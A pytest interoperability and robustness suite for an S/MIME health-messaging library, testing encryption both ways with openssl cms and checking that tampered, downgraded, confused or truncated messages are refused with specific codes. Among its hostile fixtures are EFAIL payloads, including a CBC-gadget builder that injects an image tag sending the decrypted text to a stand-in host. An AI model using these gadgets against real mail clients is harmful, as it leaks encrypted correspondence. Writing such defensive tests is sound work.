"""Encryption both ways between ours and `openssl cms`, and every altered, cut or confused message refused with its code.

Two tables go to `$MSSANTE_REPORT_DIR`: `smime-crypt-matrix.txt` and `smime-crypt-refused.txt`.
"""

from __future__ import annotations

import random
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from asn1crypto import pem
from support.envelopes import (
    AES256_CBC,
    PLAIN,
    TRIPLE_DES,
    bob,
    bob_key,
    cbc_content,
    content_info,
    encrypt_for,
    envelope_message,
    enveloped,
    file_key,
    openssl,
    rewritten,
    secret_pem,
    stranger,
    structure_of,
)
from support.lab import need_programs, report
from support.pki import certificate_pem
from support.smime import ALICE, NOW, admit, alice, authority, letter, message_of, mixed

from mssante.smime.ber import CONTEXT_0, OCTET_STRING, PRIMITIVE_0, SEQUENCE, der, der_integer, der_oid
from mssante.smime.cms import ID_COMPRESSED_DATA, ID_DATA, ID_ENVELOPED_DATA, ID_SIGNED_DATA
from mssante.smime.decrypt import open_message, safe_view
from mssante.smime.encrypt import encrypt_message
from mssante.smime.framing import NULL, algorithm, set_of
from mssante.smime.recipients import wrap_for
from mssante.smime.sign import sign_message
from mssante.smime.values import Cipher, SmimeCode, SmimeFault, SmimeLimits
from mssante.smime.verify import verify_message

pytestmark = [pytest.mark.interop, pytest.mark.timeout(180)]

CODES = SmimeCode
CIPHERS = {Cipher.AES256_GCM: "-aes-256-gcm", Cipher.AES128_GCM: "-aes-128-gcm", Cipher.AES256_CBC: "-aes-256-cbc", Cipher.AES128_CBC: "-aes-128-cbc"}
METHODS = {  # of a recipient: whose key, options of openssl, what we read
    "rsa-oaep-sha256": ("rsa", ("-keyopt", "rsa_padding_mode:oaep", "-keyopt", "rsa_oaep_md:sha256"), "rsa-oaep-sha256"),
    "rsa-pkcs1v15": ("rsa", (), "rsa-pkcs1v15"),
    "ecdh-P-256": ("P-256", ("-keyopt", "ecdh_kdf_md:sha256"), "ecdh-sha256"),
    "ecdh-P-384": ("P-384", ("-keyopt", "ecdh_kdf_md:sha384"), "ecdh-sha384")}
OTHERS = {  # read only: what openssl can write besides
    "rsa-oaep-sha1": ("rsa", ("-keyopt", "rsa_padding_mode:oaep"), "rsa-oaep-sha1"),
    "rsa-oaep-sha512": ("rsa", ("-keyopt", "rsa_padding_mode:oaep", "-keyopt", "rsa_oaep_md:sha512"), "rsa-oaep-sha512"),
    "rsa-oaep-mgf": ("rsa", ("-keyopt", "rsa_padding_mode:oaep", "-keyopt", "rsa_oaep_md:sha256", "-keyopt", "rsa_mgf1_md:sha1"), "rsa-oaep-sha256"),
    "ecdh-sha1": ("P-256", (), "ecdh-sha1"), "ecdh-cofactor": ("P-384", ("-keyopt", "ecdh_cofactor_mode:1"), "ecdh-sha1"),
    "ecdh-P-521": ("P-521", ("-keyopt", "ecdh_kdf_md:sha512"), "ecdh-sha512")}
BODIES = [b"Le compte rendu est joint.\r\n", "Compte rendu : très bien, à revoir.\r\n".encode(), b"." * 15 + b"\r\n", b"ligne\r\n" * 4000]
CONTENT = b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n"


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with the certificates and keys of everybody, as openssl wants them."""
    need_programs("openssl")
    place = tmp_path_factory.mktemp("openssl")
    for kind in ("rsa", "P-256", "P-384", "P-521"):
        (place / f"{kind}.pem").write_bytes(certificate_pem(bob(kind).certificate))
        (place / f"{kind}.key").write_bytes(secret_pem(bob(kind).key))
    (place / "alice.pem").write_bytes(certificate_pem(alice().certificate))
    (place / "alice.key").write_bytes(secret_pem(alice().key))
    (place / "authority.pem").write_bytes(certificate_pem(authority().certificate))
    return place


def crlf(octets: bytes) -> bytes:
    """Give octets with CRLF line ends: openssl writes LF around what it makes."""
    return octets.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def openssl_opens(message: bytes, folder: Path, kind: str = "rsa") -> bytes:
    """Give the entity that openssl finds inside, nothing when it refuses."""
    return openssl("cms", "-decrypt", "-inform", "SMIME", "-recip", f"{kind}.pem", "-inkey", f"{kind}.key", folder=folder, data=message, check=False)


def openssl_encrypts(entity: bytes, folder: Path, cipher: str, kind: str, options: tuple[str, ...]) -> bytes:
    """Give the message that openssl makes of an entity."""
    made = openssl("cms", "-encrypt", "-binary", cipher, "-from", ALICE, "-subject", "essai", "-recip", f"{kind}.pem", *options, folder=folder, data=entity)
    return crlf(made)


@pytest.mark.parametrize("method", list(METHODS))
@pytest.mark.parametrize("cipher", list(CIPHERS))
def test_ours_opened_by_openssl(folder: Path, cipher: Cipher, method: str) -> None:
    kind = METHODS[method][0]
    for body in BODIES:
        message = encrypt_message(letter(body, content=CONTENT), [bob(kind).certificate], cipher=cipher, oaep=method != "rsa-pkcs1v15")
        assert openssl_opens(message, folder, kind) == CONTENT + b"\r\n" + body


@pytest.mark.parametrize("method", list(METHODS))
@pytest.mark.parametrize("cipher", list(CIPHERS))
def test_openssls_opened_by_ours(folder: Path, cipher: Cipher, method: str) -> None:
    kind, options, read = METHODS[method]
    for body in BODIES:
        opened = open_message(openssl_encrypts(CONTENT + b"\r\n" + body, folder, CIPHERS[cipher], kind, options), [bob_key(kind)])
        assert (opened.cipher, opened.method) == (cipher.value, read)
        assert opened.message.endswith(b"\r\n" + CONTENT + b"\r\n" + body) and opened.message.count(b"Subject: essai\r\n") == 1
        assert opened.authenticated is cipher.value.endswith("gcm")


@pytest.mark.parametrize("method", list(OTHERS))
def test_what_openssl_can_write_besides(folder: Path, method: str) -> None:
    kind, options, read = OTHERS[method]
    for cipher in ("-aes-192-cbc", "-aes-256-gcm"):
        opened = open_message(openssl_encrypts(PLAIN, folder, cipher, kind, options), [bob_key(kind)])
        assert opened.method == read and opened.message.endswith(PLAIN)


def test_streams_key_identifiers_and_several_recipients(folder: Path) -> None:
    entity = CONTENT + b"\r\n" + BODIES[3]
    for options in (("-stream",), ("-keyid",), ("-stream", "-keyid")):
        for kind in ("rsa", "P-256"):
            made = openssl("cms", "-encrypt", "-binary", "-aes-128-cbc", *options, "-recip", f"{kind}.pem", "-recip", "alice.pem", folder=folder, data=entity)
            assert open_message(crlf(made), [bob_key(kind)]).message.endswith(entity)
    message = encrypt_message(letter(), [bob("P-256").certificate, bob().certificate, bob("P-384").certificate])
    assert {openssl_opens(message, folder, kind) for kind in ("rsa", "P-256", "P-384")} == {b"Content-Type: text/plain; charset=utf-8\r\n\r\nLe compte rendu est joint.\r\n"}


@pytest.mark.parametrize("opaque", [False, True], ids=["clear", "opaque"])
@pytest.mark.parametrize("cipher", [Cipher.AES256_GCM, Cipher.AES256_CBC])
def test_signed_then_encrypted_both_ways(folder: Path, cipher: Cipher, opaque: bool) -> None:
    for kind in ("rsa", "P-256"):
        signed = sign_message(letter(), file_key(alice()), opaque=opaque, now=NOW)
        inside = openssl_opens(encrypt_message(signed, [bob(kind).certificate], cipher=cipher), folder, kind)
        content = openssl("cms", "-verify", "-CAfile", "authority.pem", "-purpose", "any", folder=folder, data=inside)
        assert content.replace(b"\r\n", b"\n") == b"Content-Type: text/plain; charset=utf-8\n\nLe compte rendu est joint.\n"

        theirs = openssl("cms", "-sign", "-signer", "alice.pem", "-inkey", "alice.key", *(("-nodetach",) if opaque else ()), folder=folder, data=PLAIN)
        opened = open_message(openssl_encrypts(crlf(theirs), folder, CIPHERS[cipher], kind, METHODS["ecdh-P-256" if kind != "rsa" else "rsa-oaep-sha256"][1]),
                              [bob_key(kind)])
        assert opened.inner.value == ("opaque-signed" if opaque else "clear-signed")
        verdict = verify_message(opened.message, author=ALICE, check=admit, now=NOW)
        assert verdict.signature is CODES.VALID and verdict.signer == ALICE, verdict
        assert safe_view(opened, signature_holds=True) is opened


def test_fifty_messages_each_way_of_every_kind(folder: Path) -> None:
    """Drawn at random, with a fixed seed: sizes around the blocks, every cipher, every method; the table of the report."""
    chance = random.Random(4)
    sent: Counter[tuple[str, str, str]] = Counter()
    opened: Counter[tuple[str, str, str]] = Counter()
    for number in range(50):
        cipher, method = list(CIPHERS)[number % 4], list(METHODS)[number // 4 % 4]
        kind, options, _ = METHODS[method]
        body = bytes(chance.choice(b"abcdefghij \r\n").to_bytes(1, "big")[0] for _ in range(chance.randrange(200))).replace(b"\r", b"").replace(b"\n", b"\r\n") + b"\r\n"
        entity = CONTENT + b"\r\n" + body
        ours = encrypt_message(letter(body, content=CONTENT), [bob(kind).certificate], cipher=cipher, oaep=method != "rsa-pkcs1v15")
        way = ("ours to openssl", cipher.value, method)
        sent[way] += 1
        opened[way] += openssl_opens(ours, folder, kind) == entity
        way = ("openssl to ours", cipher.value, method)
        sent[way] += 1
        theirs = openssl_encrypts(entity, folder, CIPHERS[cipher], kind, options)
        opened[way] += open_message(theirs, [bob_key(kind)]).message.endswith(entity)
    lines = ["S/MIME encryption, ours and openssl cms 3.0, messages drawn: opened / sent", ""]
    for heading in ("ours to openssl", "openssl to ours"):
        lines.append(f"{heading:16} " + " ".join(f"{method:>16}" for method in METHODS))
        lines += [f"  {cipher.value:14} " + " ".join(f"{opened[heading, cipher.value, method]:>13}/{sent[heading, cipher.value, method]:<2}" for method in METHODS)
                  for cipher in CIPHERS]
    report("smime-crypt-matrix.txt", "\n".join(lines))
    assert opened == sent and sum(sent.values()) == 100


# --- the refused ones


@dataclass(frozen=True, slots=True)
class Hostile:
    """One message to refuse. codes: those that may come; keys: kinds of our keys; limits: other than the usual ones."""

    name: str
    message: bytes
    codes: tuple[SmimeCode, ...]
    limits: SmimeLimits = field(default_factory=SmimeLimits)


KEY, VECTOR = b"0123456789abcdef0123456789abcdef", b"vecteur initial!"
PAGE = b"Content-Type: text/html\r\n\r\n<p>le patient</p>" + b"<br>" * 30 + b"\r\n"


def flipped(needle: bytes, shift: int = 0) -> Callable[[bytearray], None]:
    """Give a change that flips one bit, `shift` octets after the last place of a needle."""
    def change(octets: bytearray) -> None:
        octets[octets.rindex(needle) + shift] ^= 1
    return change


def cbc_gadget() -> bytes:
    """EFAIL: blocks made from the one that is known, in front of the secret."""
    pieces = cbc_content(PAGE, KEY, VECTOR)
    made = b"".join(bytes(a ^ b ^ c for a, b, c in zip(VECTOR, PAGE[:16], wanted, strict=True)) + pieces[:16]
                    for wanted in (b"<img src='http:/", b"/mal.example/?x="))
    return enveloped(b"", bob(), key=KEY, vector=VECTOR, content=pieces[:16] + made + pieces[16:])


def downgraded() -> bytes:
    """A GCM content under the name of CBC, with the wrapped key of the GCM message (RFC 9709 §1)."""
    content = b"x" * 64
    return content_info(ID_ENVELOPED_DATA, der_integer(0), set_of([wrap_for(bob().certificate, KEY, oaep=True)]),
                        der(SEQUENCE, der_oid(ID_DATA), algorithm(AES256_CBC, der(OCTET_STRING, VECTOR)), der(PRIMITIVE_0, content)))


def hostile_messages(vectors: Path | None) -> list[Hostile]:
    """Give all that must be refused."""
    gcm, cbc = encrypt_for(PAGE, Cipher.AES256_GCM), envelope_message(enveloped(PAGE, bob(), key=KEY, vector=VECTOR))
    entity = gcm[gcm.index(b"Content-Type"):]
    many = encrypt_message(letter(), [bob().certificate, alice().certificate])
    nested = letter()
    for _ in range(5):
        nested = encrypt_message(nested, [bob().certificate])
    bad = (CODES.BROKEN, CODES.UNSAFE)
    oid = der_oid(ID_DATA)
    found = [
        Hostile("GCM, one bit of the content", rewritten(gcm, flipped(oid, 60)), (CODES.BROKEN,)),
        Hostile("GCM, one bit of the nonce", rewritten(gcm, flipped(oid, 30)), (CODES.BROKEN,)),
        Hostile("GCM, one bit of the tag", rewritten(gcm, lambda octets: octets.__setitem__(-1, octets[-1] ^ 1)), (CODES.BROKEN,)),
        Hostile("GCM, one bit of the wrapped key", rewritten(gcm, lambda octets: octets.__setitem__(400, octets[400] ^ 1)), (CODES.BROKEN,)),
        Hostile("CBC, padding altered", rewritten(cbc, lambda octets: octets.__setitem__(-17, octets[-17] ^ 0x55)), (CODES.BROKEN,)),
        Hostile("CBC, one bit of the first block", rewritten(cbc, flipped(VECTOR, 18 + 8)), (CODES.UNSAFE,)),
        Hostile("CBC, one bit of the wrapped key (PKCS#1)", rewritten(
            envelope_message(enveloped(PAGE, bob(), oaep=False)), lambda octets: octets.__setitem__(300, octets[300] ^ 1)), bad),
        Hostile("CBC gadgets in front of the secret (EFAIL)", envelope_message(cbc_gadget()), (CODES.UNSAFE,)),
        Hostile("encrypted part between clear parts (EFAIL)", message_of(mixed(b"Content-Type: text/html\r\n\r\n<img src='http://a/?", entity)), (CODES.UNSAFE,)),
        Hostile("forwarded encrypted message", message_of(b"Content-Type: message/rfc822\r\n\r\n" + gcm), (CODES.UNSAFE,)),
        Hostile("GCM passed off as CBC", envelope_message(downgraded()), bad),
        Hostile("GCM passed off as CBC, label kept", envelope_message(downgraded(), kind=b"authEnveloped-data"), (CODES.CONFUSED,)),
        Hostile("GCM inside EnvelopedData", envelope_message(enveloped(PAGE, bob(), oid="2.16.840.1.101.3.4.1.46")), (CODES.CONFUSED,)),
        Hostile("smime-type says signed-data", envelope_message(structure_of(cbc), kind=b"signed-data"), (CODES.CONFUSED,)),
        Hostile("two Content-Type fields", envelope_message(structure_of(cbc), header=b"Content-Type: text/plain\r\n"), (CODES.CONFUSED, CODES.NONE)),
        Hostile("content of type signed-data", envelope_message(enveloped(PAGE, bob(), content_type=ID_SIGNED_DATA)), (CODES.CONFUSED,)),
        Hostile("text after the base64", cbc + b"-- \r\nPied de page\r\n", (CODES.CONFUSED,)),
        Hostile("octets after the structure", rewritten(cbc, lambda octets: octets.extend(b"\0\0")), (CODES.UNREADABLE,)),
        Hostile("content without MIME header, CBC", envelope_message(enveloped(b"texte seul, sans champs", bob())), (CODES.UNSAFE,)),
        Hostile("NUL in the content, CBC", envelope_message(enveloped(PAGE + b"\0", bob())), (CODES.UNSAFE,)),
        Hostile("for another certificate", encrypt_message(letter(), [stranger().certificate]), (CODES.NOT_FOR_US,)),
        Hostile("3DES", envelope_message(enveloped(PAGE, bob(), oid=TRIPLE_DES)), (CODES.ALGORITHM,)),
        Hostile("RC2", envelope_message(enveloped(PAGE, bob(), oid="1.2.840.113549.3.2")), (CODES.ALGORITHM,)),
        Hostile("compressed", envelope_message(der(SEQUENCE, der_oid(ID_COMPRESSED_DATA), der(CONTEXT_0, NULL)), kind=b"compressed-data"), (CODES.ALGORITHM,)),
        Hostile("not encrypted", letter(), (CODES.NONE,)),
        Hostile("two recipients, one admitted", many, (CODES.LIMIT,), SmimeLimits(count=1)),
        Hostile("five encryptions, four admitted", nested, (CODES.LIMIT,), SmimeLimits(depth=4)),
        Hostile("larger than admitted", many, (CODES.LIMIT,), SmimeLimits(message_bytes=500))]
    if vectors is not None:
        someone = pem.unarmor((vectors / "enveloped-for-someone-else.pem").read_bytes())[2]
        found += [Hostile("public vector: for someone else", envelope_message(someone), (CODES.NOT_FOR_US,)),
                  Hostile("public vector: another's CBC", (vectors / "made-aes128-cbc.eml").read_bytes(), (CODES.NOT_FOR_US,))]
    return found


def code_of(case: Hostile) -> SmimeCode | None:
    """Give the code with which ours refuses, None when it does not."""
    try:
        safe_view(open_message(case.message, [bob_key(), bob_key("P-256")], limits=case.limits), signature_holds=False)
    except SmimeFault as fault:
        return fault.code
    return None


def test_the_altered_cut_and_confused_are_refused_with_their_code(folder: Path) -> None:
    vectors = Path(__file__).resolve().parents[3] / "shared" / "data" / "smime" / "cms"
    lines = [f"{'hostile message':46} {'ours':26} openssl cms", ""]
    wrong: list[str] = []
    for case in hostile_messages(vectors if vectors.is_dir() else None):
        code = code_of(case)
        other = "opens" if openssl_opens(case.message, folder) else "refuses"
        lines.append(f"{case.name:46} {code.value if code else 'OPENED':26} {other}")
        if code not in case.codes:
            wrong.append(f"{case.name}: {code}")
    for name, message in (("GCM", encrypt_for(PAGE, Cipher.AES256_GCM)), ("CBC", envelope_message(enveloped(PAGE, bob())))):
        structure, seen = structure_of(message), Counter[str]()
        for at in range(0, len(structure), 3):
            code = code_of(Hostile("cut", envelope_message(structure[:at], kind=b""), ()))
            seen[code.value if code else "OPENED"] += 1
        text_cuts = Counter((code_of(Hostile("cut", message[:at], ())) or "OPENED") for at in range(0, len(message) - 2, 7))  # less than the last line end
        lines.append(f"{name} structure cut at {sum(seen.values())} places: {dict(seen)}")
        lines.append(f"{name} message cut at {sum(text_cuts.values())} places: { {str(code): count for code, count in text_cuts.items()} }")
        assert "OPENED" not in seen and "OPENED" not in text_cuts
    report("smime-crypt-refused.txt", "\n".join(lines))
    assert not wrong
